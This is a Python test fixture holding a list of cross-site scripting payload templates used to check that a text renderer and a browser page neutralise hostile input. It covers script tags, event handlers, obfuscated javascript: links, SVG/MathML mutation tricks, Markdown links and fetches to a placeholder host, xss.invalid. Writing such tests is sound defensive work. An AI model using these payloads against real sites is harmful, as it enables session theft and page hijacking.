"""Hostile input, shared by the renderer's tests (tests/threads_tests/test_text.py) and the
browser's (tests/e2e/test_hostile_input.py).

Each payload is a template: ``§`` stands for its number, so that whatever runs tells which
one it was. If one ran, it would call ``__pwned(n)`` (a global the browser test defines
before any page script), ``alert``/``confirm``/``prompt``/``print``, set ``document.title``
to ``pwned<n>``, or load or open ``http://xss.invalid/<n>``; the browser test watches every
one of those. Script tags, event handlers, ``javascript:``/``data:``/``vbscript:`` addresses
in mixed case and with entities, SVG and MathML mutation tricks, frames, forms, styles,
breaking out of attributes, text areas and titles, and Markdown's links, images, references
and autolinks.
"""

MARK = "§"

# Why a payload cannot run even unsanitised, in a plain page of Chromium: it targets a step
# between the text and the page (a sanitiser, a template engine, a Markdown renderer).
INERT_WHEN_RAW: dict[str, str] = {}


def _inert(template: str, why: str) -> str:
    INERT_WHEN_RAW[template] = why
    return template


TEMPLATES = [
    # Script tags
    "<script>__pwned(§)</script>",
    "<ScRiPt>alert(§)</sCrIpT>",
    "<script src=http://xss.invalid/§></script>",
    "<svg><script>prompt(§)</script></svg>",
    # Event handlers
    "<img src=x onerror=__pwned(§)>",
    "<IMG SRC=x OnErRoR=\"confirm(§)\">",
    "<img src=x onerror=&#95;&#95;pwned(§)>",
    "<img src=x onerror=\"\\u005f_pwned(§)\">",
    "<svg onload=__pwned(§)>",
    "<svg/onload=print(§)>",
    "<body onload=__pwned(§)>",
    "<details open ontoggle=__pwned(§)>",
    "<input autofocus onfocus=__pwned(§)>",
    "<a href=\"#\" onmouseover=\"__pwned(§)\">hier</a>",
    "<div onmouseenter=__pwned(§) style=\"position:fixed;inset:0\">overal</div>",
    "<audio src=x onerror=__pwned(§)>",
    "<video><source src=x onerror=__pwned(§)></video>",
    "<img src=x onerror=\"document.title='pwned§'\">",
    "<img src=x onerror=\"fetch('http://xss.invalid/§')\">",
    "<img src=x onerror=\"location='http://xss.invalid/§'\">",
    # SVG and MathML: mutation XSS and namespace confusion
    "<svg><animate onbegin=__pwned(§) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:__pwned(§)\"><text x=0 y=20>klik</text></a></svg>",
    "<math><mtext><img src=x onerror=__pwned(§)></mtext></math>",
    _inert("<math><mtext><table><mglyph><style><img src=x onerror=__pwned(§)>",
           "mutation XSS: runs only once a sanitiser's serialisation is parsed again"),
    _inert("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;"
           "&lt;img&Tab;src=1&Tab;onerror=__pwned(§)&gt;\">",
           "mutation XSS: runs only once a sanitiser's serialisation is parsed again"),
    "<svg></p><style><a id=\"</style><img src=1 onerror=__pwned(§)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=__pwned(§)>\">",
    # Frames, objects, forms, styles
    "<iframe src=\"javascript:top.__pwned(§)\"></iframe>",
    "<iframe srcdoc=\"<script>top.__pwned(§)</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>fetch('http://xss.invalid/§')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>fetch('http://xss.invalid/§')</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='fetch(&quot;http://xss.invalid/§&quot;)'/>\">",
    _inert("<object data=\"javascript:__pwned(§)\"></object>",
           "Chromium refuses javascript: in an object"),
    "<form action=\"javascript:__pwned(§)\"><input type=submit value=verstuur></form>",
    "<form><button formaction=\"javascript:__pwned(§)\">verstuur</button></form>",
    "<style>@import 'http://xss.invalid/§';</style>",
    "<div style=\"background:url(http://xss.invalid/§)\">achtergrond</div>",
    "<link rel=stylesheet href=http://xss.invalid/§>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://xss.invalid/§\">",
    "<base href=\"http://xss.invalid/§/\">",
    "<div data-hx-get=\"/\" data-hx-trigger=\"load\" data-hx-on::config-request=\"__pwned(§)\" "
    "hx-on:click=\"__pwned(§)\">htmx</div>",
    # Raw links with hidden schemes
    "<a href=\"javascript:__pwned(§)\">klik</a>",
    "<a href=\"&#x6A;avascript:__pwned(§)\">klik</a>",
    "<a href=\"jav&#x09;ascript:__pwned(§)\">klik</a>",
    # Markdown links, images, references, autolinks
    "[klik](javascript:__pwned(§))",
    "[klik](JaVaScRiPt:__pwned(§))",
    "[klik](&#106;avascript:__pwned(§))",
    "[klik](&#x6A;&#x61;vascript:__pwned(§))",
    _inert("[klik](java\tscript:__pwned(§))", "CommonMark reads it as text, not a link"),
    "<a href=\"java\tscript:__pwned(§)\">klik</a>",
    "[klik](  javascript:__pwned(§))",
    "[klik](javascript&colon;__pwned(§))",
    _inert("[klik](vbscript:__pwned(§))", "only old Internet Explorer ran vbscript:"),
    _inert("[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
           "Chromium refuses to open a data: address as a page"),
    "![plaatje](javascript:__pwned(§))",
    "![plaatje](http://xss.invalid/§)",
    _inert("![plaatje](x\" onerror=\"__pwned(§))",
           "breaks out only of a renderer that pastes the address into an attribute"),
    "[klik][r§]\n\n[r§]: javascript:__pwned(§)",
    "<javascript:__pwned(§)>",
    "[<img src=x onerror=__pwned(§)>](http://example.org)",
    _inert("[x](http://example.org \"onmouseover=__pwned(§)\")",
           "breaks out only of a renderer that pastes the title into an attribute"),
    _inert("[x](http://example.org\" onmouseover=\"__pwned(§))",
           "breaks out only of a renderer that pastes the address into an attribute"),
    "[x](mailto:a@example.org?body=<img src=x onerror=__pwned(§)>)",
    "javascript:__pwned(§) en www.example.org/<img src=x onerror=__pwned(§)>",
    "`<img src=x onerror=__pwned(§)>`",
    "```html\n<script>__pwned(§)</script>\n```",
    "> <img src=x onerror=__pwned(§)>\n> [x](javascript:__pwned(§))",
    "***<img src=x onerror=document.title='pwned§'>***",
    # Comments, CDATA, breaking out of the context the text lands in
    _inert("<!--<img src=x onerror=__pwned(§)>-->", "a comment: runs only if it is undone"),
    _inert("<![CDATA[<img src=x onerror=__pwned(§)>]]>",
           "runs only where a parser ends the section early"),
    "\"><img src=x onerror=__pwned(§)>",
    "'><svg onload=__pwned(§)>",
    "</textarea><img src=x onerror=__pwned(§)>",
    "</title><script>__pwned(§)</script>",
    "</script><script>__pwned(§)</script>",
    _inert("<select><style></select><img src=x onerror=__pwned(§)>",
           "mutation XSS: runs only once a sanitiser's serialisation is parsed again"),
    # Template syntax: must come out as the same text, not be evaluated
    _inert("{{ request.user.email }}{% debug %}${__pwned(§)}#{__pwned(§)}",
           "template syntax: harmful only if a server evaluates it"),
]


def payload(number: int) -> str:
    """Payload ``number``, its ``§`` filled in."""
    return TEMPLATES[number].replace(MARK, str(number))


PAYLOADS = [payload(number) for number in range(len(TEMPLATES))]

# The numbers of the payloads that run in Chromium (or make it load or ask for something
# they name) when a page holds them unsanitised.
LIVE_WHEN_RAW = [number for number, template in enumerate(TEMPLATES)
                 if template not in INERT_WHEN_RAW]
